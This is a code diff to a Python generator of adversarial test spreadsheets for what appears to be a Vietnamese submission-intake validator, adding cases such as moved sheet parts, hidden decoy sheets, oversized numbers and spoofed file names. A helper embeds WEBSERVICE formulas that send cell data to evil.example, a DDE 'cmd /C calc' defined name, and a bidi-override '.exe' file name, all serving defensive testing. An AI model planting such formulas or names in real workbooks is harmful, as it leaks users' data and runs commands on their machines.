@@ -12,6 +12,7 @@ from __future__ import annotations
 import copy
 import datetime as dt
 import io
+import os
 import random
 import re
 import shutil
@@ -592,6 +593,92 @@ def build_corpus(root: Path, campaign, registry, district_code: str, *, libreoff
         rows = rows_for(c, 2)
         put(Case("other-producers", rows=2, role=USED), _quirk(filled(c, rows), quirk), unit=c)
 
+    # ===== Second round (issue 12): files built outside the first corpus, as a careless or malicious sender would =====
+    # --- a worksheet part stored outside xl/worksheets/, found through the workbook's relationships -------------
+    for far, junk in ((True, b""), (True, b"not xml yet "), (False, b"")):
+        c = fresh()
+        rows = rows_for(c, 2)
+        parts = parts_of_bytes(filled(c, rows))
+        moved = _move_sheet(parts, SK, "xl/data/blob.bin")
+        if far:
+            parts[moved] = junk + parts[moved].replace(
+                b"</sheetData>", b'<row r="1048576"><c r="XFD1048576"><v>7</v></c></row></sheetData>')
+            case = Case("sheet-outside-worksheets", refused=frozenset({"file-sheet-too-large"}))
+        else:
+            case = Case("sheet-outside-worksheets", rows=2, role=USED)
+        put(case, zip_bytes(parts), unit=c)
+    # --- formatting without values out to the last row: read as the small sheet it is ------------------------
+    for last in (1048576, 500000):
+        c = fresh()
+        rows = rows_for(c, 2)
+        parts = parts_of_bytes(filled(c, rows))
+        target = sheet_part(parts, SK)
+        fmt = b"".join(b'<row r="%d" s="1" customFormat="1"><c r="A%d" s="1"/><c r="XFD%d" s="1"/></row>' % (r, r, r)
+                       for r in range(1000, last + 1, 997)) + b'<row r="%d"><c r="XFD%d" s="1"/></row>' % (last, last)
+        parts[target] = parts[target].replace(b"</sheetData>", fmt + b"</sheetData>")
+        put(Case("formatted-far-cells", rows=2, role=USED), zip_bytes(parts), unit=c)
+    # --- rows below a gap, rows far down, pre-numbered STT: every row with content is read, no phantom row -----
+    for gap in (250, 4000):
+        c = fresh()
+        rows = rows_for(c, 3)
+        wb = openpyxl.load_workbook(io.BytesIO(filled(c, rows[:1])))
+        ws = wb[SK]
+        for k, row in enumerate(rows[1:]):
+            r = L.TABLE_HEADER_ROW + 1 + gap * (k + 1)
+            for label, value in row.items():
+                ws.cell(r, column_index_from_string(COLUMN[label])).value = value
+        p = name("rows-below-gap", unit=c)
+        wb.save(p)
+        out[p] = Case("rows-below-gap", rows=3, role=USED)
+    for n_stt in (100, 600):
+        c = fresh()
+        rows = rows_for(c, 2)
+        wb = openpyxl.load_workbook(io.BytesIO(filled(c, rows)))
+        ws = wb[SK]
+        for k in range(n_stt):
+            ws.cell(L.TABLE_HEADER_ROW + 1 + k, 1).value = k + 1
+        p = name("prefilled-stt", unit=c)
+        wb.save(p)
+        out[p] = Case("prefilled-stt", rows=2, role=USED)
+    # --- a hidden decoy sheet whose name is the data sheet's in another Unicode form (or case) ------------------
+    for decoy_name, first in ((unicodedata.normalize("NFD", SK), True), (SK + "  ", False), (" " + SK, True)):
+        c = fresh()
+        rows = rows_for(c, 2)
+        wb = openpyxl.load_workbook(io.BytesIO(filled(c, rows)))
+        real = wb[SK]
+        decoy = wb.create_sheet(decoy_name, 0 if first else None)
+        for line in real.iter_rows(min_row=1, max_row=L.TABLE_HEADER_ROW, values_only=True):
+            decoy.append(list(line))
+        for k in range(5):
+            decoy.append([k + 1, f"Sáng kiến giả {k}", "Người lạ"] + [None] * 15)
+        decoy.sheet_state = "hidden"
+        p = name("decoy-sheet", unit=c)
+        wb.save(p)
+        out[p] = Case("decoy-sheet", codes=(("sheet-duplicate", SK, None),), rows=2, role=USED)
+    # --- numbers no output can hold: a 400-digit amount, 1e300, a 20-digit member count ------------------------
+    for label, value in (("Giá trị làm lợi (đồng)", "9" * 400), ("Giá trị làm lợi (đồng)", 1e300),
+                         ("Năm sinh", 1e20), ("Giá trị làm lợi (đồng)", "1" * 16)):
+        c = fresh()
+        rows = rows_for(c, 2)
+        rows[0][label] = value
+        put(Case("huge-number", codes=(("value-too-large", SK, icell(label, 0)),), rows=1, role=USED),
+            filled(c, rows), unit=c)
+    c = fresh()
+    put(Case("huge-number", codes=(("value-too-large", DV, ucell("SO_DOAN_VIEN")),), role=USED),
+        filled(c, unit_over={"SO_DOAN_VIEN": "12345678901234567890"}), unit=c)
+    # --- live content outside cell formulas: defined names, conditional formats, validations, links, comments ---
+    for k in range(3):
+        c = fresh()
+        rows = rows_for(c, 2)
+        put(Case("live-content", rows=2, role=USED), _live_content(filled(c, rows), k), unit=c)
+    # --- file names of any bytes: not UTF-8, terminal escape codes, bidi override -------------------------------
+    for raw in (b"\xff\xfe t\xe9p cu.xlsx", b"\x1b[2J\x1b[31mdo.xlsx", "t\u202eslx.exe".encode() + b".xlsx"):
+        c = fresh()
+        rows = rows_for(c, 1)
+        p = Path(os.fsdecode(os.fsencode(str(inbox)) + b"/" + c.code.encode() + b" - " + raw))
+        p.write_bytes(filled(c, rows))
+        out[p] = Case("odd-file-name", rows=1, role=USED)
+
     # --- LibreOffice round trips: another producer's quirks, .xlsx and legacy .xls (BIFF8) -------------------------
     if libreoffice and find_soffice():
         lo_src = work / "lo"
@@ -615,6 +702,43 @@ def build_corpus(root: Path, campaign, registry, district_code: str, *, libreoff
                 codes = (("normalized-legacy-text", SK, icell("Tên sáng kiến", 0)),) if p.stem.endswith("2") else ()
                 out[q] = Case(f"libreoffice-{fmt}", codes=codes, rows=n_rows[p.stem], role=USED)
     return out
+
+
+def _move_sheet(parts: dict[str, bytes], sheet: str, new: str) -> str:
+    """Store ``sheet``'s part at ``new`` (any folder, any extension), relationships and content types following."""
+    old = sheet_part(parts, sheet)
+    parts[new] = parts.pop(old)
+    rels = old.rsplit("/", 1)[0] + "/_rels/" + old.rsplit("/", 1)[1] + ".rels"
+    if rels in parts:
+        parts[new.rsplit("/", 1)[0] + "/_rels/" + new.rsplit("/", 1)[1] + ".rels"] = parts.pop(rels)
+    parts["xl/_rels/workbook.xml.rels"] = parts["xl/_rels/workbook.xml.rels"].replace(old[3:].encode(), new[3:].encode())
+    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(("/" + old).encode(), ("/" + new).encode())
+    return new
+
+
+def _live_content(data: bytes, variant: int) -> bytes:
+    """The workbook with active content where only cell formulas used to be checked."""
+    wb = openpyxl.load_workbook(io.BytesIO(data))
+    from openpyxl.comments import Comment
+    from openpyxl.formatting.rule import FormulaRule
+    from openpyxl.workbook.defined_name import DefinedName
+    from openpyxl.worksheet.datavalidation import DataValidation
+
+    ws = wb[SK]
+    if variant == 0:
+        wb.defined_names["GUI_DI"] = DefinedName("GUI_DI", attr_text='WEBSERVICE("http://evil.example/?"&\'Đơn vị\'!$C$5)')
+        wb.defined_names["CHAY"] = DefinedName("CHAY", attr_text="cmd|' /C calc'!A0")
+    elif variant == 1:
+        ws.conditional_formatting.add("B4:B20", FormulaRule(formula=['LEN(WEBSERVICE("http://evil.example/?"&B4))>0']))
+        dv = DataValidation(type="custom", formula1='ISNUMBER(WEBSERVICE("http://evil.example/"&B4))')
+        ws.add_data_validation(dv)
+        dv.add("C4:C20")
+    else:
+        ws["R4"].hyperlink = "http://evil.example/nhan-du-lieu"
+        ws["R5"].comment = Comment("Bấm vào ô R4", "người lạ")
+    buf = io.BytesIO()
+    wb.save(buf)
+    return buf.getvalue()
 
 
 _KSO_CUSTOM = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Properties xmlns="http://schemas.openxmlformats.org/'
@@ -689,7 +813,7 @@ def _tmp_write(work: Path, data: bytes) -> Path:
 DISTRICT, OTHER = "HX", "HY"
 
 
-CORPUS_UNITS = 170  # every content variant of the corpus is its own unit
+CORPUS_UNITS = 200  # every content variant of the corpus is its own unit
 
 
 def make_registry(campaign, n_units: int = CORPUS_UNITS):
